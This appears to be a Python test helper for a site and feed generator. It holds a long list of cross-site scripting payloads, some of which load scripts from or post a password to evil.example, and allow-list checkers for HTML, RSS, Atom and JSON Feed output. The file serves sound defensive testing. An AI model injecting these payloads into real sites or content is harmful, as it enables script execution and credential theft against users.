"""What must never come out: markup that acts, and the lists that tell it from what we write ourselves."""

import json
from collections.abc import Iterator
from typing import Any, Final

import html5lib
from lxml import etree

# Each is put into every text of an entry: headline, summary, body, author, section, link.
VECTORS: Final = (
    # scripts
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script>",
    "<script\x0c>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
    "<script type=module>import('//evil.example')</script>",
    "<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<script\n>alert(1)</script\t\nx>",
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!--><script>alert(1)</script>-->",
    "<!--!><script>alert(1)</script>",
    "<!-- --!><script>alert(1)</script>-->",
    "<comment><script>alert(1)</script></comment>",
    "<%<script>alert(1)</script>%>",
    "]]><script>alert(1)</script><![CDATA[",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "&LT;script&GT;alert(1)",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<img src=x oneonerrorrror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src='x' ONERROR='alert(1)'>",
    "<img src=x on error=alert(1) onload =alert(1)>",
    "<body onload=alert(1)>",
    "<p onclick=alert(1)>x</p>",
    "<a href=# onmouseover=alert(1)>x</a>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onloadstart=alert(1)></audio>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div onpointerenter=alert(1) tabindex=0>x</div>",
    "<p style='animation:x' onanimationstart=alert(1)>x</p>",
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "x` onclick=`alert(1)",
    # addresses that act
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='javascript&#58;alert(1)'>x</a>",
    "<a href='javascript:&#x2F;&#x2F;%0aalert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='livescript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='blob:https://evil.example/1'>x</a>",
    "<a href='filesystem:https://evil.example/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='intent://x#Intent;end'>x</a>",
    "<a href='https://ok.example' ping='//evil.example' target=_blank>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img srcset='javascript:alert(1) 1x, data:text/html,x 2x'>",
    "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
    "<video poster=javascript:alert(1) src=x></video>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "<table background=javascript:alert(1)><td>x</td></table>",
    # SVG, MathML and what they hide
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href=data:,alert(1) />",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><set attributeName=onmouseover to=alert(1) /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x></svg>#x' /></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<math><maction actiontype='statusline#http://evil.example' xlink:href=javascript:alert(1)>x",
    # mutation: what a second reading makes of it
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<noembed><img src='</noembed><iframe onload=alert(1)>'></noembed>",
    "<plaintext><script>alert(1)</script>",
    "<title><img src='</title><img src=x onerror=alert(1)>'></title>",
    "<textarea><img src='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><style>*{display:none}</style></template>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img id=x onerror=alert(1)>'>",
    "<p><svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>",
    "<a title='&quot;&gt;&lt;img src=x onerror=alert(1)&gt;'>x</a>",
    "<p id='`><img src=x onerror=alert(1)>`'>x</p>",
    # style
    "<style>*{background:url(//evil.example/x)}</style>",
    "<style>@import'//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='wid/**/th:exp/**/ression(alert(1))'>x</p>",
    "<p style='-moz-binding:url(//evil.example/x.xml#a)'>x</p>",
    "<p style='behavior:url(x.htc)'>x</p>",
    "<p style='position:fixed;inset:0;z-index:9'>over everything</p>",
    "<font style='color:red' color=red size=99>x</font>",
    # pages within pages, requests, redirects
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<object type=text/x-scriptlet data=//evil.example/x></object>",
    "<embed src=javascript:alert(1)>",
    "<embed code=//evil.example/x.swf allowscriptaccess=always>",
    "<applet code=x.class></applet>",
    "<portal src=//evil.example></portal>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=Set-Cookie content='a=b'>",
    "<meta http-equiv=Content-Security-Policy content=''>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<base href=//evil.example/>",
    "<link rel=import href=//evil.example>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<form action=//evil.example><input name=password><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input type=image src=//evil.example/x formaction=javascript:alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<img src=//evil.example/pixel.gif width=1 height=1>",
    "<bgsound src=javascript:alert(1)>",
    "<dialog open><script>alert(1)</script></dialog>",
    # out of our own frame
    "</main></body></html><script>alert(1)</script>",
    "</title></head><body onload=alert(1)>",
    "</description></item></channel></rss><script>alert(1)</script>",
    "</content></entry></feed>",
    '"}]}<script>alert(1)</script>',
    "\u2028<script>alert(1)</script>\u2029",
    "\u202e<script>alert(1)</script>\u2066",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\ufeff<script>alert(1)</script>",
    "{{ 7*7 }}{% include 'x' %}<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u017fcript <\u017fcript>alert(1)</\u017fcript>",
    "\xbcscript\xbealert(1)\xbc/script\xbe",
)  # fmt: skip

_PROSE: Final = {
    "a", "abbr", "audio", "b", "bdi", "blockquote", "br", "caption", "cite", "code", "col", "colgroup", "dd", "del",
    "details", "div", "dl", "dt", "em", "figcaption", "figure", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img",
    "ins", "kbd", "li", "mark", "ol", "p", "picture", "pre", "q", "rp", "rt", "ruby", "s", "samp", "small", "source",
    "span", "strong", "sub", "summary", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "time", "tr", "u", "ul",
    "var", "video",
}  # fmt: skip
_CHART: Final = {f"{{http://www.w3.org/2000/svg}}{tag}" for tag in ("line", "path", "rect", "svg", "title")}  # fmt: skip
_PAGE: Final = _PROSE | _CHART | {
    "article", "aside", "button", "footer", "form", "header", "input", "label", "main", "nav", "option", "section",
    "select",
}  # fmt: skip
_PROSE_ATTRIBUTES: Final = {
    "alt", "cite", "colspan", "controls", "datetime", "height", "href", "lang", "loading", "poster", "preload",
    "referrerpolicy", "rel", "rowspan", "span", "src", "srcset", "start", "title", "width",
}  # fmt: skip
_PAGE_ATTRIBUTES: Final = _PROSE_ATTRIBUTES | {
    "action", "class", "d", "data-label", "for", "hreflang", "id", "maxlength", "method", "name", "placeholder",
    "preserveAspectRatio", "role", "scope", "selected", "type", "value", "viewBox", "x", "x1", "x2", "y", "y1", "y2",
}  # fmt: skip
_ADDRESSES: Final = {
    "href",
    "src",
    "action",
    "cite",
    "poster",
    "srcset",
    "formaction",
    "xlink:href",
}
_JSON_ADDRESSES: Final = {
    "banner_image", "external_url", "feed_url", "home_page_url", "icon", "image", "next_url", "url",
}  # fmt: skip
_WEB: Final = ("https://", "http://")


def acts_in_prose(html: str, *, tags: frozenset[str] | None = None) -> list[str]:
    """Return what a reader's HTML engine would find in a text of others that is not on the lists."""
    tree = html5lib.parseFragment(html, namespaceHTMLElements=False)
    allowed = _PROSE if tags is None else tags
    return [one for element in list(tree.iter())[1:] for one in _acts(element, allowed, _PROSE_ATTRIBUTES, _WEB)]  # fmt: skip


def acts_on_page(page: str) -> list[str]:
    """Return what a browser would find in the body of one of our pages that is not on the lists."""
    body = html5lib.parse(page, namespaceHTMLElements=False).find("body")
    ours = (*_WEB, "/", "#", "feed:http://", "feed:https://")
    found = [one for element in list(body.iter())[1:] for one in _acts(element, _PAGE, _PAGE_ATTRIBUTES, ours)]  # fmt: skip
    frame = [element.tag for element in body if element.tag != "p"]  # a banner may stand there too
    return found + ([] if frame == ["a", "header", "main", "footer"] else [f"frame {frame}"])


def _acts(
    element: Any,  # a comment's tag is no text, whatever the stubs say
    tags: set[str] | frozenset[str],
    attributes: set[str],
    schemes: tuple[str, ...],
) -> Iterator[str]:
    if not isinstance(element.tag, str):
        yield "a comment or instruction"
        return
    if element.tag not in tags:
        yield f"<{element.tag}>"
    for name, value in element.attrib.items():
        if name not in attributes and not name.startswith("aria-"):
            yield f"<{element.tag} {name}>"
        mail = element.tag == "a" and value.startswith("mailto:")
        if name in _ADDRESSES and value and not value.startswith(schemes) and not mail:
            yield f"<{element.tag} {name}={value!r}>"


def acts_in_feed(document: bytes) -> list[str]:
    """Return what stands in RSS or Atom that would act where a reader takes any text for HTML."""
    root = etree.fromstring(document, etree.XMLParser(resolve_entities=False))
    found: list[str] = []
    for element in root.iter():
        if not isinstance(element.tag, str):
            found.append("a comment or instruction")
            continue
        name = etree.QName(element).localname
        whole = name in ("encoded", "content", "description") and element.text
        found += acts_in_prose(element.text or "", tags=None if whole else frozenset())
        addresses = [element.get(key) for key in ("href", "url", "src")]
        if name in ("link", "docs", "comments", "uri", "icon", "logo"):
            addresses.append(element.text)
        found += [f"{name}: {a}" for a in addresses if a and a.strip() and not a.startswith(_WEB)]
    return found


def acts_in_json(document: bytes) -> list[str]:
    """Return the same of a JSON Feed."""
    return list(_acts_in(json.loads(document), "feed"))


def _acts_in(value: Any, key: str) -> Iterator[str]:
    if isinstance(value, dict):
        for name, one in value.items():
            yield from _acts_in(one, name)
    elif isinstance(value, list):
        for one in value:
            yield from _acts_in(one, key)
    elif isinstance(value, str):
        yield from acts_in_prose(value, tags=None if key == "content_html" else frozenset())
        if key in _JSON_ADDRESSES and not value.startswith(_WEB):
            yield f"{key}: {value}"
